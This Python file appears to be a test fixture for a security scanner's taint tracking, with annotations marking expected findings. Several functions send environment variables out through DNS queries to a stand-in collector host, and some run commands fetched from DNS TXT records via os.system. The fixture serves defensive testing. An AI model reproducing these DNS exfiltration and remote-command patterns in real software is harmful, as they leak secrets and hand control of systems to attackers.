"""Names looked up in the DNS."""
import os
import socket

import aiodns
import dns.message
import dns.query
import dns.resolver
import dns.update
import dnslib


def system_lookup():
    socket.gethostbyname(os.getenv("T") + ".dns.collector.example")  #~ source(ENVIRONMENT) f1, sink(egress.dns) f1, finding(traced) f1, capability(DNS)
    socket.gethostbyname("www.collector.example")  #~ ok


def resolved():
    dns.resolver.resolve(os.getenv("T") + ".dns.collector.example", "TXT")  #~ source(ENVIRONMENT) f2, sink(egress.dns) f2, finding(traced) f2, capability(DNS)


def resolved_command():
    os.system(dns.resolver.resolve("cmd.collector.example", "TXT")[0])  #~ source(NETWORK) f3, sink(exec.command) f3, finding(traced) f3


def resolver_object():
    r = dns.resolver.Resolver()
    r.resolve(os.getenv("T") + ".dns.collector.example")  #~ source(ENVIRONMENT) f4, sink(egress.dns) f4, finding(traced) f4, capability(DNS)


def resolver_constant():
    r = dns.resolver.Resolver()
    r.resolve("www.collector.example")  #~ ok
    dns.resolver.resolve("www.collector.example")  #~ ok


def query_message():
    query = dns.message.make_query(os.getenv("T"), "A")  #~ source(ENVIRONMENT) f6
    dns.query.udp(query, "192.0.2.53")  #~ sink(egress.dns) f6, finding(traced) f6, capability(DNS)


def query_command():
    answer = dns.query.udp(dns.message.make_query("cmd.collector.example", "TXT"), "192.0.2.53")  #~ source(NETWORK) f7
    os.system(str(answer))  #~ sink(exec.command) f7, finding(traced) f7


def query_constant():
    dns.query.udp(dns.message.make_query("www.collector.example", "A"), "192.0.2.53")  #~ ok


def dynamic_update():
    update = dns.update.Update("collector.example")
    update.add("x", 300, "TXT", os.getenv("T"))  #~ source(ENVIRONMENT) f9
    dns.query.tcp(update, "192.0.2.53")  #~ sink(egress.dns) f9, finding(traced) f9


def dynamic_update_constant():
    update = dns.update.Update("collector.example")
    update.add("x", 300, "TXT", "ping")  #~ ok
    dns.query.tcp(update, "192.0.2.53")  #~ ok


async def async_lookup():
    r = aiodns.DNSResolver()
    await r.query(os.getenv("T") + ".dns.collector.example", "A")  #~ source(ENVIRONMENT) f11, sink(egress.dns) f11, finding(traced) f11, capability(DNS)
    await r.query("www.collector.example", "A")  #~ ok


def record():
    q = dnslib.DNSRecord.question(os.getenv("T"))  #~ source(ENVIRONMENT) f12
    q.send("192.0.2.53")  #~ sink(egress.dns) f12, finding(traced) f12, capability(DNS)


def record_constant():
    q = dnslib.DNSRecord.question("www.collector.example")  #~ ok
    q.send("192.0.2.53")  #~ ok
